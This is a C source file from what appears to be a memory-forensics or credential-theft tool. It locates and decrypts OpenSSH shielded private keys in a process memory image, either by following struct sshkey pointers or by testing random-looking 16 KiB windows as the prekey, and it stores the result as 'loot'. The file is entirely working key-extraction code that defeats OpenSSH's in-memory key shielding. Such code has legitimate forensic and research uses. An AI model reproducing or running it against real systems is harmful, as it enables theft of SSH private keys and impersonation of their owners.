// SPDX-License-Identifier: GPL-2.0-only
#include "shield.h"

#include <inttypes.h>
#include <openssl/crypto.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "image.h"
#include "key.h"
#include "noise.h"

#define BLOB_MAX	((size_t)16384)
#define USER_END	((uint64_t)1 << 56)
#define STEP		16	/* malloc's alignment */
/*
 * An image that is all noise has too many candidates to try each of them: there,
 * only those that begin a page, as large blocks do.
 */
#define NOISE_MANY	((size_t)1 << 20)
#define CANDIDATES_MAX	40000

/* Encrypts or decrypts, which is the same in counter mode. */
static bool crypt_with(const uint8_t *prekey, const uint8_t *in, size_t len,
		       uint8_t *out)
{
	EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
	uint8_t hash[64];
	int n;
	bool good;

	good = ctx && EVP_Digest(prekey, PREKEY_BYTES, hash, NULL, EVP_sha512(), NULL) &&
	       EVP_EncryptInit_ex(ctx, EVP_aes_256_ctr(), NULL, hash, hash + 32) &&
	       EVP_EncryptUpdate(ctx, out, &n, in, len);
	EVP_CIPHER_CTX_free(ctx);
	return good;
}

static bool open_with(const struct target *t, const uint8_t *prekey,
		      const uint8_t *blob, size_t len, struct loot *l)
{
	uint8_t plain[BLOB_MAX];

	if (!crypt_with(prekey, blob, HEAD_BYTES, plain) ||
	    memcmp(plain, t->head, HEAD_BYTES))
		return false;
	return crypt_with(prekey, blob, len, plain) &&
	       loot_from_serialized(l, t, plain, len);
}

static bool user_pointer(uint64_t p)
{
	return p >= PAGE && p < USER_END && !(p % 8);
}

/**
 * shield_plausible() - could these four words be it?
 * @s: the words
 *
 * Return: whether.
 */
bool shield_plausible(const struct shield *s)
{
	return s->prekey_len == PREKEY_BYTES && s->blob_len >= 512 &&
	       s->blob_len <= BLOB_MAX && !(s->blob_len % STEP) &&
	       user_pointer(s->blob_va) && user_pointer(s->prekey_va);
}

/**
 * shield_open() - follow the pointers, and decrypt
 * @image: the memory
 * @t: public half
 * @s: where to look
 * @l: what to fill in
 *
 * Return: whether it is the private key that belongs to @t.
 */
bool shield_open(const struct image *image, const struct target *t,
		 const struct shield *s, struct loot *l)
{
	uint8_t prekey[PREKEY_BYTES], blob[BLOB_MAX];

	if (!image_copy(image, s->prekey_va, PREKEY_BYTES, prekey) ||
	    !image_copy(image, s->blob_va, s->blob_len, blob) ||
	    !open_with(t, prekey, blob, s->blob_len, l))
		return false;
	l->blob_va = s->blob_va;
	l->blob_len = s->blob_len;
	l->prekey_va = s->prekey_va;
	return true;
}

/**
 * shield_by_struct() - look for struct sshkey, which says where the rest is
 * @image: the memory
 * @t: public half
 * @l: what to fill in
 *
 * Return: whether the private key was found.
 */
bool shield_by_struct(const struct image *image, const struct target *t,
		      struct loot *l)
{
	for (size_t i = 0; i < image->count; i++) {
		const struct segment *seg = &image->segments[i];

		for (size_t at = 0; at + sizeof(struct shield) <= seg->size; at += 8) {
			struct shield s;

			memcpy(&s, seg->data + at, sizeof(s));
			if (!shield_plausible(&s) || !shield_open(image, t, &s, l))
				continue;
			snprintf(l->how, sizeof(l->how),
				 "struct sshkey around 0x%" PRIx64 " led to the prekey, 0x%" PRIx64
				 ", and the shielded key, 0x%" PRIx64,
				 seg->va + at, s.prekey_va, s.blob_va);
			return true;
		}
	}
	return false;
}

/*
 * What the first block of the shielded key would be, were this the prekey: how
 * the key starts is public. Sorted, so that one pass over the image finds it.
 */
struct candidate {
	uint64_t block[HEAD_BYTES / 8];
	uint64_t va;
	const uint8_t *prekey;
};

struct candidates {
	struct candidate *list;
	size_t count;
	bool first[65536];	/* by the block's first bytes: rules most out */
};

static int by_block(const void *a, const void *b)
{
	return memcmp(a, b, HEAD_BYTES);
}

static bool suggest(struct candidates *c, const struct target *t,
		    const struct segment *seg, size_t at)
{
	struct candidate *one = &c->list[c->count];

	if (c->count == CANDIDATES_MAX)
		return false;
	one->va = seg->va + at;
	one->prekey = seg->data + at;
	if (crypt_with(one->prekey, t->head, HEAD_BYTES, (uint8_t *)one->block)) {
		c->first[one->block[0] & 0xffff] = true;
		c->count++;
	}
	return true;
}

/* Every place where 16 KiB look random; the counts slide along. */
static void suggest_noise(struct candidates *c, const struct target *t,
			  const struct segment *seg, size_t step)
{
	uint32_t counts[256] = { 0 };
	uint64_t squares = 0;
	size_t from = 0, to = 0;

	for (; from + PREKEY_BYTES <= seg->size; from += STEP) {
		for (; to < from + PREKEY_BYTES; to++)
			squares += 2 * (uint64_t)counts[seg->data[to]]++ + 1;
		if (!(from % step) && noise_verdict(squares, PREKEY_BYTES) &&
		    !suggest(c, t, seg, from))
			return;
		for (size_t i = 0; i < STEP; i++)
			squares -= 2 * (uint64_t)--counts[seg->data[from + i]] + 1;
	}
}

static bool match(const struct image *image, const struct target *t,
		  const struct candidates *c, const struct segment *seg,
		  size_t at, struct loot *l)
{
	uint8_t blob[BLOB_MAX];
	size_t len = seg->size - at < BLOB_MAX ? seg->size - at : BLOB_MAX;
	struct candidate *hit;

	hit = bsearch(seg->data + at, c->list, c->count, sizeof(*c->list), by_block);
	if (!hit || !image_copy(image, seg->va + at, len, blob) ||
	    !open_with(t, hit->prekey, blob, len, l))
		return false;
	l->prekey_va = hit->va;
	l->blob_va = seg->va + at;
	l->blob_len = 0;
	snprintf(l->how, sizeof(l->how),
		 "one of %zu random-looking windows of 16 KiB, at 0x%" PRIx64
		 ", opened the shielded key at 0x%" PRIx64, c->count, hit->va, l->blob_va);
	return true;
}

static bool match_any(const struct image *image, const struct target *t,
		      const struct candidates *c, struct loot *l)
{
	for (size_t i = 0; c->count && i < image->count; i++) {
		const struct segment *seg = &image->segments[i];

		for (size_t at = 0; at + HEAD_BYTES <= seg->size; at += STEP) {
			uint16_t first;

			memcpy(&first, seg->data + at, sizeof(first));
			if (c->first[first] && match(image, t, c, seg, at, l))
				return true;
		}
	}
	return false;
}

/**
 * shield_by_noise() - without any pointer: by what the prekey must look like
 * @image: the memory
 * @t: public half
 * @l: what to fill in
 *
 * Return: whether the private key was found.
 */
bool shield_by_noise(const struct image *image, const struct target *t,
		     struct loot *l)
{
	struct candidates *c = calloc(1, sizeof(*c));
	const struct segment *most;
	size_t step = image_noise(image, &most) > NOISE_MANY ? PAGE : STEP;
	bool found;

	if (!c)
		return false;
	c->list = calloc(CANDIDATES_MAX, sizeof(*c->list));
	if (!c->list) {
		free(c);
		return false;
	}
	for (size_t i = 0; i < image->count; i++)
		suggest_noise(c, t, &image->segments[i], step);
	qsort(c->list, c->count, sizeof(*c->list), by_block);
	found = match_any(image, t, c, l);
	free(c->list);
	free(c);
	return found;
}
